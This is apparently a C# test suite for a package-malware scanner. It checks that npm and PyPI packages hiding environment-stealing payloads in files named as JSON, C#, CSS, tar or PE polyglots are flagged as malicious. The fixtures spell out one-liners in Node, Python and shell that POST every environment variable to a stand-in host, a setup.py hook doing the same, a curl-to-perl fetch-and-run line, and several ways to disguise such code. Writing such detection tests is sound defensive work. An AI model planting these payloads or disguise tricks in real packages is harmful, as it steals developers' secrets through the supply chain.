using System.Text;
using PackageWall.Inspection.Reports;
using PackageWall.Packages;
using PackageWall.Testing.Packages;

namespace PackageWall.Inspection.Tests.Catalogue;

/// <summary>
/// The same harvest in files that are called something else than what runs them. Whoever reads a file by its name or its looks alone finds
/// settings, a style sheet or the wrong language.
/// </summary>
public sealed class DisguiseTests
{
    private const string Script = "const https=require('https');const d=JSON.stringify(process.env);const r=https.request({hostname:'collect.invalid',path:'/x',method:'POST'});r.write(d);r.end();\n";
    private const string Python = "import os, json, urllib.request\nurllib.request.urlopen('https://collect.invalid/x', data=json.dumps(dict(os.environ)).encode())\n";
    private const string Shell = "env | curl -s -X POST --data-binary @- https://collect.invalid/x\n";
    private const string LikeScript = "\"\"\"\nconst fs = require(\"fs\");\nfunction f(a) { return a === 2; }\nconsole.log(module.exports);\n\"\"\"\n";
    private const string LikePython = "/*\nimport os\nimport sys\ndef f(self):\n    print(self)\nif __name__ == \"__main__\":\n    pass\n*/\n";

    [Theory]
    [InlineData("python data.json", "data.json", Python)]
    [InlineData("python3 -O data.json", "data.json", Python)]
    [InlineData("python3 -X dev data.json", "data.json", Python)]
    [InlineData("python3 data.dat", "data.dat", LikeScript + Python)]
    [InlineData("python3 tools", "tools/__main__.py", Python)]
    [InlineData("python3 -m tools.x", "tools/x.py", Python)]
    [InlineData("uv run data.json", "data.json", Python)]
    [InlineData("sh data.json", "data.json", Shell)]
    [InlineData("sh x.ts", "x.ts", Shell)]
    [InlineData("bash ./x.cs", "x.cs", Shell)]
    [InlineData("./x.json", "x.json", Shell)]
    [InlineData("./x.py", "x.py", "#!/bin/sh\n" + Shell)]
    [InlineData("BASH_ENV=./x.json bash -c true", "x.json", Shell)]
    [InlineData("find . -name x.json -exec sh {} ;", "x.json", Shell)]
    [InlineData("node x.cs", "x.cs", Script)]
    [InlineData("node x.py", "x.py", Script)]
    [InlineData("node x.dat", "x.dat", LikePython + Script)]
    [InlineData("node --max-http-header-size 16384 x.js", "x.js", Script)]
    [InlineData("node --import=./x.mjs index.js", "x.mjs", Script)]
    [InlineData("NODE_OPTIONS='--require ./x.cs' node index.js", "x.cs", Script)]
    [InlineData("cross-env NODE_OPTIONS=--require=./x.cs node index.js", "x.cs", Script)]
    [InlineData("tsx x.dat", "x.dat", Script)]
    public void A_hook_runs_a_file_as_what_runs_it_takes_it(string command, string file, string payload) =>
        Of(new NpmPackageBuilder("sample", "1.0.0").Script("postinstall", command).File("index.js", "exports.x = 1;").File(file, payload)).Verdict.ShouldBe(Verdict.Malicious);

    [Theory]
    [InlineData("require('./x.cs')", "x.cs", Script)]
    [InlineData("require('./x.dat')", "x.dat", LikePython + Script)]
    [InlineData("require('child_process').fork('./x.py')", "x.py", Script)]
    [InlineData("new (require('worker_threads').Worker)('./x.cs')", "x.cs", Script)]
    [InlineData("require('child_process').spawnSync('python3', [__dirname + '/x.json'])", "x.json", Python)]
    [InlineData("require('child_process').spawnSync('node', ['-r', './y.js', './x.js'])", "x.js", Script)]
    [InlineData("eval(require('fs').readFileSync(__dirname + '/x.json', 'utf8'))", "x.json", Script)]
    [InlineData("require('vm').runInThisContext(require('fs').readFileSync(__dirname + '/x.props'))", "x.props", Script)]
    public void A_script_runs_a_file_as_what_runs_it_takes_it(string code, string file, string payload) =>
        Of(new NpmPackageBuilder("sample", "1.0.0").File("index.js", code).File("y.js", "").File(file, payload)).Verdict.ShouldBe(Verdict.Malicious);

    [Theory]
    [InlineData("main", "x.txt")]
    [InlineData("main", "x.cs")]
    [InlineData("exports", "./x.txt")]
    public void A_main_file_is_a_script_by_any_name(string field, string file) =>
        Of(new NpmPackageBuilder("sample", "1.0.0").With(field, file).File(file.TrimStart('.', '/'), "/* " + new string('a', 70_000) + " */\n" + Script)).Verdict.ShouldBe(Verdict.Malicious);

    [Theory]
    [InlineData("exec(open('x.js').read())")]
    [InlineData("import runpy\nrunpy.run_path('x.js')")]
    [InlineData("import importlib.machinery\nimportlib.machinery.SourceFileLoader('x', 'x.js').load_module()")]
    public void Python_runs_a_file_by_any_name(string code) =>
        Of(new NpmPackageBuilder("sample", "1.0.0").Script("postinstall", "python i.py").File("index.js", "").File("i.py", code).File("x.js", Python)).Verdict.ShouldBe(Verdict.Malicious);

    [Theory]
    [InlineData("perl x.pl", "x.pl", "print 1;")]
    [InlineData("curl https://x.invalid/y | perl", "y", "")]
    [InlineData("make", "Makefile", "all:\n\techo x\n")]
    [InlineData("./x", "x", "#!/usr/bin/perl\nprint 1;\n")]
    [InlineData("cscript x.vbs", "x.vbs", "WScript.Echo 1")]
    [InlineData("awk 'BEGIN { system(\"sh x\") }'", "x", "")]
    public void What_nobody_here_can_read_is_held_where_it_runs_by_itself(string command, string file, string text) =>
        Of(new NpmPackageBuilder("sample", "1.0.0").Script("postinstall", command).File("index.js", "").File(file, text)).Verdict.ShouldNotBe(Verdict.Clean);

    [Theory]
    [InlineData("index.js", "exports.style = () => require('./x.css');", "x.css", "html {\n  color: red;\n}\n")]
    [InlineData("index.js", "exports.data = require('./x.json');", "x.json", "{ \"a\": 1 }")]
    [InlineData("index.js", "exports.run = () => require('child_process').spawn('perl', ['x.pl']);", "x.pl", "print 1;")]
    [InlineData("index.js", "exports.run = () => require('child_process').spawn('./x');", "x", "#!/usr/bin/perl\nprint 1;\n")]
    [InlineData("x.css", "html { color: red }", "index.js", "")]
    [InlineData("index.mjs", "import data from './x.data' with { type: 'file' }; export { data };", "x.data", "user:password: \u0410bc { ] }")]
    public void What_is_no_script_to_anybody_is_left_alone(string main, string code, string file, string text) =>
        Of(new NpmPackageBuilder("sample", "1.0.0").With("main", main).File(main, code).File(file, text)).Verdict.ShouldBe(Verdict.Clean);

    [Fact]
    public void A_script_that_is_an_archive_or_a_program_besides_is_read_as_a_script()
    {
        byte[] program = new byte[512];
        Encoding.ASCII.GetBytes("MZ=1/*").CopyTo(program, 0);
        program[60] = 128;
        Encoding.ASCII.GetBytes("PE\0\0").CopyTo(program, 128);
        Encoding.ASCII.GetBytes("*/;").CopyTo(program, 508);
        foreach (byte[] beginning in (byte[][])[Tar("/*", "*/"), program])
        {
            byte[] file = [.. beginning, .. Encoding.ASCII.GetBytes(Script)];
            Of(new NpmPackageBuilder("sample", "1.0.0").File("index.js", "require('./x.js')").File("x.js", file)).Verdict.ShouldBe(Verdict.Malicious);
            Of(new NpmPackageBuilder("sample", "1.0.0").File("index.js", file)).Verdict.ShouldBe(Verdict.Malicious);
        }
    }

    [Theory]
    [InlineData("\n/*", "*/")]
    [InlineData("a=`", "`")]
    [InlineData("\uFEFF/*", "*/")]
    public void A_script_in_an_archive_may_open_what_holds_its_header_anywhere(string open, string close) =>
        Of(new NpmPackageBuilder("sample", "1.0.0").File("index.js", "require('./x.js')").File("x.js", [.. Tar(open, close), .. Encoding.ASCII.GetBytes(Script)])).Verdict.ShouldBe(Verdict.Malicious);

    [Theory]
    [InlineData("const fs = require('fs'); fs.writeFileSync(__dirname + '/x.txt', process.argv[2]); eval(fs.readFileSync(__dirname + '/x.txt', 'utf8'))")]
    [InlineData("const fs = require('fs'); fs.writeFileSync(process.argv[3], process.argv[2]); eval(fs.readFileSync(__dirname + '/x.txt', 'utf8'))")]
    [InlineData("const fs = require('fs'); eval(fs.readFileSync(__dirname + '/gone.txt', 'utf8'))")]
    [InlineData("const fs = require('fs'); eval(fs.readFileSync(__dirname + '/y', 'utf8'))")]
    public void A_file_that_is_written_first_or_is_not_there_is_not_known(string code) =>
        Of(new NpmPackageBuilder("sample", "1.0.0").Script("postinstall", "node i.js").File("index.js", "").File("i.js", code).File("x.txt", "1").File("y.js", "1")).Verdict.ShouldBe(Verdict.Suspicious);

    [Fact]
    public void What_an_unknown_program_may_be_given_lies_anywhere() =>
        Of(new NpmPackageBuilder("sample", "1.0.0").Script("postinstall", "node i.js").File("index.js", "")
            .File("i.js", "const d = require('./d.json'); require('child_process').spawnSync(d.a, [d.b]);").File("d.json", "{}").File("test/x.js", Script)).Verdict.ShouldBe(Verdict.Malicious);

    [Fact]
    public void A_command_of_setup_may_run_another() =>
        CatalogueInspection.Of(Ecosystem.PyPi, "sample-1.0.0.tar.gz", new SdistBuilder("sample", "1.0.0").File("sample/__init__.py", "").File("setup.py", """
            import os, json, urllib.request
            from setuptools import setup, Command
            from setuptools.command.build_py import build_py
            class Other(Command):
                def run(self):
                    urllib.request.urlopen('https://collect.invalid/x', data=json.dumps(dict(os.environ)).encode())
            class Build(build_py):
                def run(self):
                    self.run_command('other')
            setup(name='sample', version='1.0.0', packages=['sample'], cmdclass={'build_py': Build, 'other': Other})
            """).Build()).Verdict.ShouldBe(Verdict.Malicious);

    [Fact]
    public void A_script_with_the_mark_of_an_archive_is_a_script() =>
        Of(new NpmPackageBuilder("sample", "1.0.0").File("index.js", "//" + new string('x', 255) + "ustar\n" + new string(';', 400) + Script)).Findings.ShouldNotContain(finding => finding.Rule == "archive-oddity");

    // A header of a tar with the right checksum, in something that a script has open.
    private static byte[] Tar(string open, string close)
    {
        byte[] tar = new byte[1024];
        Encoding.UTF8.GetBytes(open).CopyTo(tar, 0);
        Encoding.ASCII.GetBytes("ustar").CopyTo(tar, 257);
        int sum = tar.Sum(value => value) + (8 * ' ');
        Encoding.ASCII.GetBytes(Convert.ToString(sum, 8).PadLeft(6, '0') + "\0 ").CopyTo(tar, 148);
        Encoding.ASCII.GetBytes(close + ";").CopyTo(tar, 1023 - close.Length);
        return tar;
    }

    private static InspectionReport Of(NpmPackageBuilder package) => CatalogueInspection.Of(Ecosystem.Npm, package.FileName, package.Build());
}
